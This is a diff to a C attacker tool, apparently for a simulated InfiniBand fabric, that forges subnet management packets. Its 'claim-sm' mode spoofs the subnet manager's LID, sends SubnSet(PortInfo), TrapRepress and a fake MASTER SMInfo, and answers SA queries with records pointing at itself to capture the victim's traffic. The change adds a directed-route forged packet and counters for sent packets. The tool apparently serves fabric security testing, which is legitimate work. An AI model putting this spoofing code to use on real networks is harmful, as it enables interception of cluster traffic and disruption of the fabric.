@@ -13,11 +13,14 @@
  *	answer").
  *   attacker claim-sm TARGET SECONDS
  *	For SECONDS, every 50 ms: SMPs to TARGET that claim to come from its
- *	SM (a SubnGet(NodeInfo), a SubnSet(PortInfo) with MasterSMLID 1, a
- *	TrapRepress, an unasked SubnGetResp(SMInfo) saying MASTER), and
- *	answers every SA query that reaches it with an endpoint record
- *	pointing at itself.  Prints "sa queries: N" and "data packets: N"
- *	(what it got to see of the victim's traffic).
+ *	SM (a SubnGet(NodeInfo), a SubnSet(PortInfo) with MasterSMLID 1
+ *	LID-routed and one directed-route, a TrapRepress, an unasked
+ *	SubnGetResp(SMInfo) saying MASTER), and answers every SA query that
+ *	reaches it with an endpoint record pointing at itself.  Prints
+ *	"from ADDR:PORT" (its own socket, which the victim's log names),
+ *	"rounds: N" and "forged SMPs sent: N" (what left the socket), then
+ *	"sa queries: N" and "data packets: N" (what it got to see of the
+ *	victim's traffic).
  *   attacker claim-guid SM GUID SECONDS
  *	Acts as a port that traps to SM and answers NodeInfo with port GUID
  *	GUID (a live port's).  Prints "configured: LID L" when the SM gave it
@@ -162,7 +165,8 @@ static void smp_hdr(struct ib_smp *smp, uint8_t method, uint16_t attr, uint64_t 
 	smp->M_Key = m_key;
 }
 
-static void send_smp(const struct ib_smp *smp, const struct sib_endpoint *dst)
+/* Sends smp to dst; 1 when it left the socket, else 0. */
+static int send_smp(const struct ib_smp *smp, const struct sib_endpoint *dst)
 {
 	uint8_t mad[IB_MAD_BYTES];
 	struct sib_mad_addr a;
@@ -170,11 +174,12 @@ static void send_smp(const struct ib_smp *smp, const struct sib_endpoint *dst)
 	ib_smp_encode(smp, mad);
 	/* From "LID 1", the SM's LID: a lie the LRH cannot prevent. */
 	sib_mad_addr_init(&a, SIB_QP0, SIB_LID_PERMISSIVE, 1);
-	sib_mgmt_send(link_, &a, mad, dst);
+	return sib_mgmt_send(link_, &a, mad, dst) == 0;
 }
 
-static void send_dr_smp(uint8_t method, uint16_t attr, uint64_t m_key, const uint8_t *data,
-			const struct sib_endpoint *dst)
+/* A directed-route SMP to dst; 1 when it left the socket, else 0. */
+static int send_dr_smp(uint8_t method, uint16_t attr, uint64_t m_key, const uint8_t *data,
+		       const struct sib_endpoint *dst)
 {
 	uint8_t mad[IB_MAD_BYTES];
 	struct sib_mad_addr a;
@@ -195,7 +200,7 @@ static void send_dr_smp(uint8_t method, uint16_t attr, uint64_t m_key, const uin
 		memcpy(dr.SMPData, data, IB_SMP_DATA_BYTES);
 	ib_dr_smp_encode(&dr, mad);
 	sib_mad_addr_init(&a, SIB_QP0, SIB_LID_PERMISSIVE, SIB_LID_PERMISSIVE);
-	sib_mgmt_send(link_, &a, mad, dst);
+	return sib_mgmt_send(link_, &a, mad, dst) == 0;
 }
 
 static void port_info_data(uint8_t *data, uint16_t lid, uint8_t state)
@@ -244,25 +249,30 @@ static int claim_sm(const struct sib_endpoint *target, int seconds)
 {
 	uint64_t end = now_ns() + (uint64_t)seconds * 1000000000ull;
 	uint8_t data[IB_SMP_DATA_BYTES];
+	char e[SIB_ENDPOINT_STRLEN];
 	struct rx r = { 0 };
 	struct ib_smp smp;
+	int rounds = 0, sent = 0;
 
 	while (now_ns() < end) {
 		struct ib_sm_info si = { .GUID = 0x0200000000000666ull, .SMState = IB_SM_STATE_MASTER };
 
-		send_dr_smp(IB_MAD_METHOD_GET, IB_SMP_ATTR_NODE_INFO, 0, NULL, target);
+		sent += send_dr_smp(IB_MAD_METHOD_GET, IB_SMP_ATTR_NODE_INFO, 0, NULL, target);
 		smp_hdr(&smp, IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, 0);
 		port_info_data(smp.SMPData, 0, IB_PORT_STATE_NOP);
-		send_smp(&smp, target);
+		sent += send_smp(&smp, target);
 		port_info_data(data, 0, IB_PORT_STATE_NOP);
-		send_dr_smp(IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, 0, data, target);
+		sent += send_dr_smp(IB_MAD_METHOD_SET, IB_SMP_ATTR_PORT_INFO, 0, data, target);
 		smp_hdr(&smp, IB_MAD_METHOD_TRAP_REPRESS, IB_SMP_ATTR_NOTICE, 0);
-		send_smp(&smp, target);
+		sent += send_smp(&smp, target);
 		smp_hdr(&smp, IB_MAD_METHOD_GET_RESP, IB_SMP_ATTR_SM_INFO, 0);
 		ib_sm_info_encode(&si, smp.SMPData);
-		send_smp(&smp, target);
+		sent += send_smp(&smp, target);
+		rounds++;
 		listen_for(&r, 50);
 	}
+	printf("from %s\nrounds: %d\nforged SMPs sent: %d\n", sib_endpoint_str(&link_->local, e),
+	       rounds, sent);
 	printf("sa queries: %d\ndata packets: %d\n", r.sa_queries, r.data);
 	return 0;
 }
